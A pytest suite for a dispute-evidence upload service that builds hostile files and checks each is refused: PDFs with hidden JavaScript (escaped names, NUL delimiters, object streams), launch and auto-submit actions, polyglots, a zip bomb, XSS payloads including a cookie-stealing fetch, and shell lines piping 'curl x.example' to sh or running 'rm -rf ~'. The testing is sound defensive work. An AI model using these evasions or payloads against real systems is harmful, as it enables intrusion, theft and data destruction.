"""Hostile uploads through the service, end to end: each is refused with a message that says what
was wrong, and leaves no evidence row, no event, no store object and no temp file behind.
Hostile file names are not refused but made safe: no path, no control or bidi characters."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable

import pytest
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

from dispute import cases
from dispute.context import Context
from dispute.errors import InvalidInput
from dispute.exhibits import attach_evidence, list_evidence, upload_key
from evidence import hazards, names
from evidence.errors import EvidenceRefused
from tests.conftest import (filing_form, huge_png, image_claiming, make_user, pdf_bytes, raw,
                            store_files, upload)
from tests.test_evidence_sniff import (elf_bytes, gif_bytes, image_bytes, ls_bytes, pe_bytes,
                                       wav_bytes, zip_bytes)

MIB = 1 << 20
SCRIPT_HTML = b"<!DOCTYPE html><html><body><script>fetch('/steal?c='+document.cookie)</script>"


# --- hostile files, made here ---------------------------------------------------------------

def pdf_with(edit: Callable[[PdfWriter], None]) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    edit(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def pdf_javascript() -> bytes:
    """Document-level JavaScript (the /Names /JavaScript tree), run when the file opens."""
    def edit(writer: PdfWriter) -> None:
        script = writer._add_object(DictionaryObject({
            NameObject("/S"): NameObject("/JavaScript"),
            NameObject("/JS"): TextStringObject("app.alert('hello');")}))
        writer._root_object[NameObject("/Names")] = DictionaryObject({
            NameObject("/JavaScript"): DictionaryObject({
                NameObject("/Names"): ArrayObject([TextStringObject("open"), script])})})
    return pdf_with(edit)


def pdf_launch() -> bytes:
    def edit(writer: PdfWriter) -> None:
        writer._root_object[NameObject("/OpenAction")] = DictionaryObject({
            NameObject("/S"): NameObject("/Launch"),
            NameObject("/F"): TextStringObject("C:\\Windows\\System32\\cmd.exe")})
    return pdf_with(edit)


def pdf_page_action() -> bytes:
    """JavaScript run when the page opens, in the page's additional actions."""
    def edit(writer: PdfWriter) -> None:
        writer.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/O"): DictionaryObject({
            NameObject("/S"): NameObject("/JavaScript"),
            NameObject("/JS"): TextStringObject("this.submitForm('http://x')")})})
    return pdf_with(edit)


def pdf_escaped_names() -> bytes:
    """"/J#61vaScript" is "/JavaScript" to a PDF reader, not to a naive search."""
    return pdf_javascript().replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS ", b"/J#53 ")


def pdf_script_in_object_stream() -> bytes:
    """A PDF 1.5 whose action lives compressed in an object stream: no name shows in the bytes."""
    action = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
    packed = zlib.compress(b"4 0 " + action)
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
        5: b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n"
           % len(packed) + packed + b"\nendstream",
    }
    out = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number, body in objects.items():
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    offsets[6] = len(out)
    rows = [struct.pack(">BIH", 0, 0, 0xFFFF)]
    for number in range(1, 7):
        rows.append(struct.pack(">BIH", 2, 5, 0) if number == 4
                    else struct.pack(">BIH", 1, offsets[number], 0))
    table = b"".join(rows)
    out += (b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n"
            % len(table) + table + b"\nendstream\nendobj\n")
    out += b"startxref\n%d\n%%%%EOF\n" % offsets[6]
    return bytes(out)


def hand_pdf(objects: dict[int, bytes], packed: dict[int, bytes] | None = None,
             version: bytes = b"1.5") -> bytes:
    """A PDF written by hand, byte for byte (pypdf's writer would normalise what the attacks
    rely on): `objects` as they are, `packed` compressed into one object stream."""
    objects = dict(objects)
    packed = packed or {}
    stream_no = max([*objects, *packed]) + 1
    if packed:
        header, body = b"", b""
        for number, obj in packed.items():
            header += b"%d %d " % (number, len(body))
            body += obj + b" "
        data = zlib.compress(header + body)
        objects[stream_no] = (b"<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d"
                              b" >>\nstream\n" % (len(packed), len(header), len(data)) + data
                              + b"\nendstream")
    xref_no = stream_no + 1
    out = bytearray(b"%PDF-" + version + b"\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number in sorted(objects):
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + objects[number] + b"\nendobj\n"
    offsets[xref_no] = len(out)
    rows = [struct.pack(">BIH", 0, 0, 0xFFFF)]
    order = list(packed)
    for number in range(1, xref_no + 1):
        if number in packed:
            rows.append(struct.pack(">BIH", 2, stream_no, order.index(number)))
        elif number in offsets:
            rows.append(struct.pack(">BIH", 1, offsets[number], 0))
        else:
            rows.append(struct.pack(">BIH", 0, 0, 0))
    table = b"".join(rows)
    out += (b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n"
            % (xref_no, xref_no + 1, len(table)) + table + b"\nendstream\nendobj\n")
    out += b"startxref\n%d\n%%%%EOF\n" % offsets[xref_no]
    return bytes(out)


CATALOG = b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>"
PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>"


def pdf_opening_with(action: bytes) -> bytes:
    return hand_pdf({1: CATALOG, 2: PAGES, 3: PAGE, 4: action})


def pdf_nul_delimited() -> bytes:
    """PDF ends a name at NUL; a search that does not sees "/JavaScript<NUL>" as another name."""
    return pdf_opening_with(b"<<\x00/S\x00/JavaScript\x00/JS\x00(app.alert\\(1\\))\x00>>")


def pdf_form_feed_delimited() -> bytes:
    return pdf_opening_with(b"<<\x0c/S\x0c/J#61vaScript\x0c/JS\x0c(app.alert\\(1\\))>>")


def pdf_damaged_object_before_a_packed_script() -> bytes:
    """An object no parser can read, numbered before the script: a check that gives up at the
    first unreadable object never reaches the script."""
    broken = b"<< /Length 99999 >>\nstream\n" + bytes(40)  # no endstream, a lying length
    catalog = b"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>"
    return hand_pdf({1: catalog, 2: PAGES, 3: PAGE, 5: broken},
                    packed={6: b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"})


def pdf_opens_a_web_address() -> bytes:
    return pdf_opening_with(b"<< /S /URI /URI (https://tracker.example/open?id=1) >>")


def pdf_submits_by_itself() -> bytes:
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /AA << /O 4 0 R >> >>"
    return hand_pdf({1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: PAGES, 3: page,
                     4: b"<< /S /SubmitForm /F (https://x.example/collect) >>"})


def pdf_opens_a_remote_file() -> bytes:
    return pdf_opening_with(b"<< /S /GoToR /F (\\\\\\\\server\\\\share\\\\x.pdf) /D [0 /Fit] >>")


def pdf_with_attachment(name: str, data: bytes) -> bytes:
    return pdf_with(lambda writer: writer.add_attachment(name, data))


def pdf_that_is_a_zip() -> bytes:
    return pdf_bytes() + zip_bytes()


def pdf_nobody_can_open() -> bytes:
    return b"%PDF-1.7\n" + bytes(range(256)) * 8 + b"\n%%EOF\n"


def jpeg() -> bytes:
    return image_bytes("JPEG", (64, 48))


def jpeg_with_comment(text: bytes) -> bytes:
    data = jpeg()
    return data[:2] + b"\xff\xfe" + struct.pack(">H", len(text) + 2) + text + data[2:]


def jar_bytes() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        z.writestr("META-INF/MANIFEST.MF", "Manifest-Version: 1.0\nMain-Class: Evil\n")
        z.writestr("Evil.class", b"\xca\xfe\xba\xbe" + bytes(60))
    return out.getvalue()


def zip_bomb() -> bytes:
    """64 MiB of zeros in well under 1 MiB; never unpacked, but it must not be stored either."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        with z.open("statement.pdf", "w", force_zip64=True) as member:
            for _ in range(64):
                member.write(bytes(MIB))
    return out.getvalue()


def svg(script: bool = True, prefix: bytes = b"") -> bytes:
    body = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
    if script:
        body += b"<script>alert(document.domain)</script>"
    return prefix + body + b"</svg>"


def over_limit(ctx: Context) -> bytes:
    body = b"%PDF-1.4\n" + bytes(ctx.settings.max_upload_bytes + 1 - 16) + b"\n%%EOF\n"
    assert len(body) == ctx.settings.max_upload_bytes + 1
    return body


# (test id, file name, maker, refusal code, words the message must contain)
HOSTILE: list[tuple[str, str, Callable[..., bytes], str, str]] = [
    ("ELF named .pdf", "statement.pdf", elf_bytes, "disguised", "Linux program"),
    ("ELF named .jpg", "receipt.jpg", elf_bytes, "disguised", "Linux program"),
    ("/bin/ls named .m4a", "call.m4a", ls_bytes, "disguised", "Linux program"),
    ("PE named .pdf", "statement.pdf", pe_bytes, "disguised", "Windows program"),
    ("PE named .exe", "setup.exe", pe_bytes, "type_not_accepted", "Windows program"),
    ("JAR named .pdf", "statement.pdf", jar_bytes, "disguised", "claims PDF"),
    ("shell script named .txt", "notes.txt", lambda: b"#!/bin/bash\ncurl -s x.example | sh\n",
     "disguised", "shell script"),
    ("shell script named .sh", "fix.sh", lambda: b"#!/bin/sh\nrm -rf ~\n", "type_not_accepted",
     "shell script"),
    ("script without a name", "install", lambda: b"#!/usr/bin/env python3\nimport os\n",
     "type_not_accepted", "script"),
    ("HTML with script named .pdf", "statement.pdf", lambda: SCRIPT_HTML, "disguised",
     "HTML page"),
    ("HTML named .htm", "page.htm", lambda: SCRIPT_HTML, "type_not_accepted", "HTML page"),
    ("script after 2 KB of text named .txt", "notes.txt",
     lambda: "还款记录\n".encode() * 200 + b"<script>alert(1)</script>", "disguised", "HTML page"),
    ("SVG with script named .svg", "chart.svg", svg, "type_not_accepted", "SVG image"),
    ("SVG named .png", "chart.png", lambda: svg(False), "disguised", "SVG image"),
    ("SVG behind a comment named .jpg", "photo.jpg", lambda: svg(prefix=b"<!-- photo -->\n"),
     "disguised", "HTML page"),  # libmagic's word for it; refused all the same
    ("PDF with JavaScript", "statement.pdf", pdf_javascript, "active_content", "JavaScript"),
    ("PDF with a launch action", "statement.pdf", pdf_launch, "active_content", "launch action"),
    ("PDF with a page-open script", "statement.pdf", pdf_page_action, "active_content",
     "JavaScript"),
    ("PDF with escaped names", "statement.pdf", pdf_escaped_names, "active_content",
     "JavaScript"),
    ("PDF with script in an object stream", "statement.pdf", pdf_script_in_object_stream,
     "active_content", "JavaScript"),
    ("PDF with NUL between names", "statement.pdf", pdf_nul_delimited, "active_content",
     "JavaScript"),
    ("PDF with form feeds and escapes", "statement.pdf", pdf_form_feed_delimited,
     "active_content", "JavaScript"),
    ("PDF with a damaged object before a packed script", "statement.pdf",
     pdf_damaged_object_before_a_packed_script, "active_content", "JavaScript"),
    ("PDF opening a web address by itself", "statement.pdf", pdf_opens_a_web_address,
     "active_content", "web address it opens by itself"),
    ("PDF submitting a form by itself", "statement.pdf", pdf_submits_by_itself,
     "active_content", "form it sends"),
    ("PDF opening a remote file", "statement.pdf", pdf_opens_a_remote_file, "active_content",
     "another file it opens"),
    ("PDF with an .exe attached", "statement.pdf",
     lambda: pdf_with_attachment("update.exe", pe_bytes()), "active_content",
     "attached program"),
    ("PDF with a program attached as .txt", "statement.pdf",
     lambda: pdf_with_attachment("readme.txt", elf_bytes()), "active_content",
     "attached program"),
    ("PDF that is also a ZIP", "statement.pdf", pdf_that_is_a_zip, "active_content",
     "ZIP archive"),
    ("PDF that no reader can open", "statement.pdf", pdf_nobody_can_open, "active_content",
     "do not agree on"),
    ("JPEG that is also a ZIP", "photo.jpg", lambda: jpeg() + zip_bytes(), "polyglot",
     "ZIP archive"),
    ("JPEG with HTML appended", "photo.jpg", lambda: jpeg() + SCRIPT_HTML, "polyglot",
     "HTML or script"),
    ("JPEG with script in its comment", "photo.jpg",
     lambda: jpeg_with_comment(b"<script>alert(1)</script>"), "polyglot", "HTML or script"),
    ("PNG that is also a ZIP", "screen.png", lambda: image_bytes("PNG") + zip_bytes(),
     "polyglot", "ZIP archive"),
    ("WAV that is also a JAR", "call.wav", lambda: wav_bytes() + jar_bytes(), "polyglot",
     "ZIP archive"),
    ("GIFAR named .jpg", "photo.jpg", lambda: gif_bytes() + jar_bytes(), "type_not_accepted",
     "GIF image"),
    ("ZIP bomb named .pdf", "statement.pdf", zip_bomb, "disguised", "ZIP archive"),
    ("truncated PDF", "statement.pdf", lambda: pdf_bytes()[: len(pdf_bytes()) // 2],
     "incomplete", "incomplete PDF"),
    ("PDF cut before its end marker", "statement.pdf", lambda: pdf_bytes()[:-7], "incomplete",
     "incomplete PDF"),
    ("7-Zip named .jpg", "photo.jpg", lambda: b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(200),
     "disguised", "7-Zip"),
    ("0 bytes", "statement.pdf", lambda: b"", "empty", "0 bytes"),
    ("one byte over the limit", "statement.pdf", over_limit, "too_large",
     "largest file accepted is 2 MB"),
    # Issue 19, finding 5: a 13000 × 13000 PNG of a few hundred KB took 1.36 GB to preview.
    ("169-megapixel PNG", "screen.png", lambda: huge_png(13000, 13000), "too_many_pixels",
     "13000 × 13000 pixels"),
    ("PNG one pixel row over the limit", "scan.png", lambda: huge_png(8192, 8193),
     "too_many_pixels", "8192 × 8193 pixels"),
    ("JPEG whose header says 9000 × 9000", "photo.jpg", lambda: image_claiming("JPEG", 9000, 9000),
     "too_many_pixels", "9000 × 9000 pixels"),
    ("TIFF whose header says 9000 × 9000", "scan.tif", lambda: image_claiming("TIFF", 9000, 9000),
     "too_many_pixels", "9000 × 9000 pixels"),
    ("WebP whose header says 16383 × 16383", "photo.webp",
     lambda: image_claiming("WEBP", 16383, 16383), "too_many_pixels", "16383 × 16383 pixels"),
    ("HEIC whose header says 9000 × 9000", "IMG_0001.HEIC",
     lambda: image_claiming("HEIF", 9000, 9000), "too_many_pixels", "9000 × 9000 pixels"),
]


def snapshot(ctx: Context) -> tuple:
    """Everything an upload could leave behind."""
    return (raw(ctx.db, "SELECT count(*) FROM evidence").scalar(),
            raw(ctx.db, "SELECT count(*) FROM events").scalar(),
            raw(ctx.db, "SELECT max(version) FROM disputes").scalar(),
            sorted(store_files(ctx)))


@pytest.fixture
def filed(ctx: Context) -> tuple:
    borrower = make_user(ctx)
    number = cases.file_dispute(ctx, borrower, filing_form(), [upload("a.pdf", pdf_bytes())])
    return borrower, number


def make(maker: Callable[..., bytes], ctx: Context) -> bytes:
    return maker(ctx) if maker is over_limit else maker()


def test_there_are_at_least_25_hostile_files() -> None:
    assert len(HOSTILE) >= 25


@pytest.mark.parametrize(("name", "maker", "code", "words"), [h[1:] for h in HOSTILE],
                         ids=[h[0] for h in HOSTILE])
def test_hostile_file_is_refused_and_nothing_is_stored(ctx: Context, filed: tuple, name: str,
                                                       maker: Callable[..., bytes], code: str,
                                                       words: str) -> None:
    borrower, number = filed
    before = snapshot(ctx)
    with pytest.raises(InvalidInput) as refused:
        attach_evidence(ctx, borrower, number, [upload(name, make(maker, ctx))])
    problem = refused.value.fields[upload_key(0)]
    assert isinstance(problem, EvidenceRefused)
    assert problem.code == code
    message = str(problem)
    assert words in message and names.display_name(name) in message
    assert snapshot(ctx) == before
    assert store_files(ctx, "tmp") == []


@pytest.mark.parametrize("index", [0, 15, 20, 26])
def test_a_hostile_file_in_a_new_dispute_files_nothing(ctx: Context, index: int) -> None:
    """Beside a good file: the whole filing is refused, the good file is not kept either."""
    _, name, maker, code, _ = HOSTILE[index]
    borrower = make_user(ctx)
    before = snapshot(ctx)
    with pytest.raises(InvalidInput) as refused:
        cases.file_dispute(ctx, borrower, filing_form(),
                           [upload("good.pdf", pdf_bytes("good")), upload(name, maker())])
    assert refused.value.fields[upload_key(1)].code == code
    assert snapshot(ctx) == before
    assert raw(ctx.db, "SELECT count(*) FROM disputes").scalar() == 0


@pytest.mark.parametrize(("given", "stored"), [
    ("../../../etc/passwd.pdf", "passwd.pdf"),
    ("..\\..\\windows\\system32\\statement.pdf", "statement.pdf"),
    ("state\x00ment.pdf", "statement.pdf"),
    ("\x1b[31mred\x07\x08.pdf", "[31mred.pdf"),
    ("line\r\nbreak.pdf", "linebreak.pdf"),
    ("invoice\u202efdp.exe.pdf", "invoicefdp.exe.pdf"),
    ("\u2067evil\u2069 statement.pdf", "evil statement.pdf"),
    ("<img src=x onerror=alert(1)>.pdf", "<img src=x onerror=alert(1)>.pdf"),
])
def test_hostile_names_are_stored_made_safe(ctx: Context, filed: tuple, given: str,
                                           stored: str) -> None:
    """Sanitised, not refused: the bytes are what matter as evidence, and the cleaned name can
    neither reach the file system (objects are named by SHA-256) nor disguise itself on screen.
    Markup in a name is kept as text; pages escape it where they show it."""
    borrower, number = filed
    attach_evidence(ctx, borrower, number, [upload(given, pdf_bytes(given))])
    item = list_evidence(ctx, borrower, number)[-1]
    assert item.original_name == stored
    assert not any(c in item.original_name for c in "/\\\x00\r\n\u202e\u2067\u2069")
    assert store_files(ctx, "tmp") == []
    assert all(len(p.name) == 64 for p in store_files(ctx, "objects"))


def test_fixture_like_pdfs_with_ordinary_actions_are_kept(ctx: Context, filed: tuple) -> None:
    """An /OpenAction that only opens a page, and an embedded attachment, are not scripts."""
    borrower, number = filed

    def go_to_page(writer: PdfWriter) -> None:
        writer._root_object[NameObject("/OpenAction")] = ArrayObject(
            [writer.pages[0].indirect_reference, NameObject("/Fit")])
        writer.add_attachment("data.csv", b"date,amount\n2026-09-01,100\n")

    attach_evidence(ctx, borrower, number, [upload("ok.pdf", pdf_with(go_to_page))])
    assert list_evidence(ctx, borrower, number)[-1].media_type == "application/pdf"


def test_a_script_in_an_object_stream_is_found_only_by_parsing() -> None:
    data = pdf_script_in_object_stream()
    assert b"JavaScript" not in data
    assert hazards._raw_active_names(io.BytesIO(data)) is None
    assert hazards.pdf_active_content(io.BytesIO(data)) == hazards.JAVASCRIPT


def test_every_real_fixture_pdf_passes_the_hazard_checks(fixtures_dir) -> None:
    for path in sorted((fixtures_dir / "pdf").glob("*.pdf")):
        with path.open("rb") as fh:
            assert not hazards.pdf_is_truncated(fh), path.name
            assert hazards.pdf_active_content(fh) is None, path.name


def test_short_names_in_compressed_data_are_not_mistaken_for_scripts() -> None:
    """"/JS " can occur by chance inside a compressed image; only a real name counts."""
    image = b"\x8f\x02/JS /JSON\x17\xa0/JS\n"
    data = hand_pdf({1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: PAGES, 3: PAGE,
                     4: b"<< /Length %d >>\nstream\n" % len(image) + image + b"\nendstream"})
    assert hazards.pdf_active_content(io.BytesIO(data)) is None


def test_clicked_links_and_buttons_and_ordinary_attachments_are_kept(ctx: Context,
                                                                     filed: tuple) -> None:
    """A web link, a submit button and a CSV attachment need the reader's click: kept."""
    borrower, number = filed
    annots = (b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Annots [4 0 R 5 0 R] >>")
    link = b"<< /Type /Annot /Subtype /Link /Rect [0 0 50 50] /A << /S /URI /URI (https://bank.example) >> >>"
    button = (b"<< /Type /Annot /Subtype /Widget /FT /Btn /Rect [60 0 90 50] "
              b"/A << /S /SubmitForm /F (https://bank.example/form) >> >>")
    data = hand_pdf({1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: PAGES, 3: annots, 4: link,
                     5: button})
    attach_evidence(ctx, borrower, number, [
        upload("links.pdf", data),
        upload("with-csv.pdf", pdf_with_attachment("data.csv", b"date,amount\n2026-09-01,1\n"))])
    assert [e.media_type for e in list_evidence(ctx, borrower, number)[-2:]] == [
        "application/pdf"] * 2


def test_poppler_is_asked_too(monkeypatch) -> None:
    """The third opinion: what poppler lists as a script refuses the file even when neither of
    the other two searches finds it (here they are switched off to show poppler alone)."""
    monkeypatch.setattr(hazards, "_raw_active_names", lambda source: None)
    monkeypatch.setattr(hazards, "_parsed_active_content", lambda source: None)
    assert hazards.pdf_active_content(io.BytesIO(pdf_page_action())) == hazards.JAVASCRIPT
    assert hazards.pdf_active_content(io.BytesIO(pdf_bytes())) is None


def test_an_image_over_the_pixel_limit_is_refused_in_both_languages(ctx: Context,
                                                                     filed: tuple) -> None:
    """The uploader is told what was refused and why, and what to do, in Chinese and English."""
    from dispute.i18n import translator

    borrower, number = filed
    with pytest.raises(InvalidInput) as refused:
        attach_evidence(ctx, borrower, number, [upload("长截图.png", huge_png(13000, 13000))])
    problem = refused.value.fields[upload_key(0)]
    english, chinese = problem.render(translator("en")), problem.render(translator("zh_CN"))
    for text in (english, chinese):
        assert "长截图.png" in text and "13000 × 13000" in text and "169" in text and "67" in text
    assert "smaller" in english and "像素" in chinese


def test_an_image_at_the_pixel_limit_is_accepted(ctx: Context, filed: tuple) -> None:
    borrower, number = filed
    assert attach_evidence(ctx, borrower, number,
                           [upload("scan.png", huge_png(8192, 8192))]) == ["E02"]
